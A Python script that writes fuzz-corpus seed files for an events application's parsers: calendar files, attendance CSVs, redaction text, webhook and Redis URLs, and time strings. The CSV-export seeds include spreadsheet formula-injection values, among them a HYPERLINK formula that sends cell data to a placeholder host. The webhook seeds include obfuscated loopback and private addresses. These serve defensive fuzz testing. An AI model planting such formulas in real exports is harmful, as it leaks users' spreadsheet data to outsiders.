#!/usr/bin/env python3
"""Writes the seed inputs of the fuzz targets that take text (fuzz/corpus/<target>/seed-*).

The fuzz_rpc_* seeds are serialized requests, written by make_corpus.cc instead
(./scripts/fuzz --seed runs both). Run from anywhere; rewrites only seed-* files.
"""
import base64
import os
import struct

CORPUS = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'corpus')


def w(target, name, data):
    os.makedirs(os.path.join(CORPUS, target), exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(CORPUS, target, 'seed-' + name), 'wb') as f:
        f.write(data)


def crlf(lines):
    return ''.join(line + '\r\n' for line in lines)


# Calendar files: what RenderCalendar writes (VTIMEZONE, folding, escapes, quoted
# parameters), a cancellation, and the usual mistakes.
w('fuzz_ics_parse', 'calendar.ics', crlf([
    'BEGIN:VCALENDAR', 'VERSION:2.0', 'PRODID:-//Inclusive Events//Scheduling//EN', 'METHOD:PUBLISH',
    'X-WR-CALNAME:Captioning in practice',
    'BEGIN:VTIMEZONE', 'TZID:Europe/London',
    'BEGIN:DAYLIGHT', 'DTSTART:20270328T010000', 'TZOFFSETFROM:+0000', 'TZOFFSETTO:+0100', 'TZNAME:BST',
    'END:DAYLIGHT',
    'BEGIN:STANDARD', 'DTSTART:20271031T020000', 'TZOFFSETFROM:+0100', 'TZOFFSETTO:+0000', 'TZNAME:GMT',
    'END:STANDARD',
    'END:VTIMEZONE',
    'BEGIN:VEVENT', 'UID:ev_01JDQ3V4N7X8K2M9P0R5T6W8Y1@events.invalid', 'DTSTAMP:20261201T090000Z',
    'SEQUENCE:2',
    'DTSTART;TZID=Europe/London:20270328T003000', 'DTEND;TZID=Europe/London:20270328T023000',
    'SUMMARY:Captions\\, sign language and easy read: a practical session for organi',
    ' sers who want everyone in the room',
    'DESCRIPTION:Line one\\nLine two\\; with a semicolon and a backslash \\\\',
    'ORGANIZER;CN="Jo Lee: events":mailto:noreply@events.invalid',
    'STATUS:CONFIRMED', 'END:VEVENT', 'END:VCALENDAR']))
w('fuzz_ics_parse', 'cancel.ics', crlf([
    'BEGIN:VCALENDAR', 'METHOD:CANCEL', 'BEGIN:VEVENT', 'UID:x@y', 'DTSTART:20270101T100000Z',
    'DURATION:PT0S', 'STATUS:CANCELLED', 'END:VEVENT', 'END:VCALENDAR']))
w('fuzz_ics_parse', 'lf-only.ics', 'BEGIN:VCALENDAR\nEND:VCALENDAR\n')
w('fuzz_ics_parse', 'unmatched.ics', crlf(['BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'END:VCALENDAR']))
w('fuzz_ics_parse', 'utf8-fold.ics', crlf([
    'BEGIN:VCALENDAR', 'SUMMARY:Café für alle – 日本語のセッション and a very long title that',
    '\tgoes on', 'END:VCALENDAR']))

# Attendance reports as webinar platforms export them, and broken ones.
w('fuzz_attendance_csv', 'zoom.csv',
  '\ufeffName (Original Name),User Email,Join Time,Leave Time,Duration (Minutes),Guest\r\n'
  '"Lee, Jo",Jo.Lee@Example.org,03/28/2027 10:01:02 AM,03/28/2027 11:00:00 AM,59,No\r\n'
  'Ann,ann@example.org,03/28/2027 10:05:00 AM,03/28/2027 10:55:00 AM,50,Yes\r\n'
  'Ann (2),ANN@example.org,03/28/2027 10:56:00 AM,03/28/2027 11:00:00 AM,4,Yes\r\n')
w('fuzz_attendance_csv', 'teams.csv',
  'Full Name,E-mail Address\nZoë Okafor,zoe@example.org\n\n,\n"Multi\nline",ÅSA@EXAMPLE.SE\n')
w('fuzz_attendance_csv', 'cr-only.csv', 'email\rjo@example.org\r"quoted ""x""",\r')
w('fuzz_attendance_csv', 'unclosed.csv', 'email\r\n"jo@example.org\r\n')
w('fuzz_attendance_csv', 'no-email.csv', 'name,phone\r\nJo,123\r\n')
w('fuzz_attendance_csv', 'after-quote.csv', ' Email Address ,x\r\n"a"b@example.org,1\r\n')

# fuzz_csv_export reads strings with FuzzedDataProvider: a backslash ends each one.
w('fuzz_csv_export', 'formula',
  '=HYPERLINK("http://x.example/?"&A1)\\+44 20 7946 0958\\@SUM(1,2)\\-1')
w('fuzz_csv_export', 'spaces', ' =1+1\\\t=cmd\\\u200b=1\\\uff1d1')
w('fuzz_csv_export', 'quotes', 'He said "hi", then left\\line\r\nbreak\\a;b\\plain')

for name, text in [
        ('email', 'Mail me at jo.lee@example.org or JO (at) example (dot) org.'),
        ('phone', 'Call +44 (0)20 7946 0958, or 020–7946–0958 after 6.'),
        ('prose', 'We met at the library at 10 dot 30; worked at a dot com startup. '
                  '10/03/2026-12/03/2026'),
        ('fullwidth', 'ｊｏ＠ｅｘａｍｐｌｅ．ｏｒｇ and 0２0\u20097946\u00a00958'),
        ('spelled', 'jo dot lee at example dot co dot uk')]:
    w('fuzz_redact', name, text)

# The first byte is the policy: 1 allow_http_loopback, 2 allow_private, 4 allow_any_port.
for name, policy, url in [
        ('https', 0, 'https://hooks.example.com/events?x=1#frag'),
        ('port', 4, 'https://hooks.example.com:8443/x'),
        ('loopback', 1, 'http://127.0.0.1:9000/hook'),
        ('localhost', 1, 'http://api.localhost/hook'),
        ('v6', 0, 'https://[2001:db8::1]/x'),
        ('mapped', 2, 'https://[::ffff:10.0.0.1]/x'),
        ('userinfo', 0, 'https://user:pw@example.com/'),
        ('numeric', 0, 'https://2130706433/'),
        ('octal', 0, 'https://0177.0.0.1/')]:
    w('fuzz_webhook_url', name, bytes([policy]) + url.encode())

for name, url in [
        ('plain', 'redis://127.0.0.1:6379/0'), ('password', 'redis://:s3cr%40t@redis:6380/2'),
        ('default-user', 'redis://default:pa@ss@[::1]:6379'), ('tls', 'rediss://x'),
        ('bad-port', 'redis://host:99999'), ('query', 'redis://:secretpass@host/0?x=1'),
        ('bad-percent', 'redis://:abc%zzdefg@host')]:
    w('fuzz_redis_url', name, url)


# Eight bytes of page size (little-endian int64), then the token.
def token(size, text):
    return struct.pack('<q', size) + text.encode()


w('fuzz_page_token', 'scheduling', token(
    10, base64.urlsafe_b64encode(b'001780000000000:ev_01JDQ3V4N7X8K2M9P0R5T6W8Y1').decode()))
w('fuzz_page_token', 'offset', token(0, '000000000040'))
w('fuzz_page_token', 'too-big', token(101, 'AAAA'))
w('fuzz_page_token', 'negative', token(-1, '-5'))

# "<local time>|<zone>".
for name, text in [
        ('dst-gap', '2027-03-28T01:30|Europe/London'), ('overlap', '2027-10-31T01:30:00|Europe/London'),
        ('space', '2026-02-29 10:00|UTC'), ('leap', '2028-02-29T23:59:59|Pacific/Kiritimati'),
        ('far', '2038-01-19T03:14:08|America/New_York'), ('date', '2027-12-31'),
        ('bad-zone', '2027-01-01T10:00|Mars/Base'), ('kolkata', '1969-12-31T23:59|Asia/Kolkata')]:
    w('fuzz_local_time', name, text)

# The first byte is the maximum length (mod 64), then the text.
for name, n, text in [
        ('name', 40, '  Zoë Okafor\u200b '), ('control', 10, 'a\u0085b\x01'),
        ('email', 60, ' JOSÉ@EXAMPLE.ORG '), ('fullwidth', 60, 'ＡＮＮ＠ｘ.org'),
        ('url', 20, 'https://example.org/a b'), ('bad-utf8', 5, '\udcff')]:
    w('fuzz_text_rules', name, bytes([n]) + text.encode('utf-8', 'surrogateescape'))
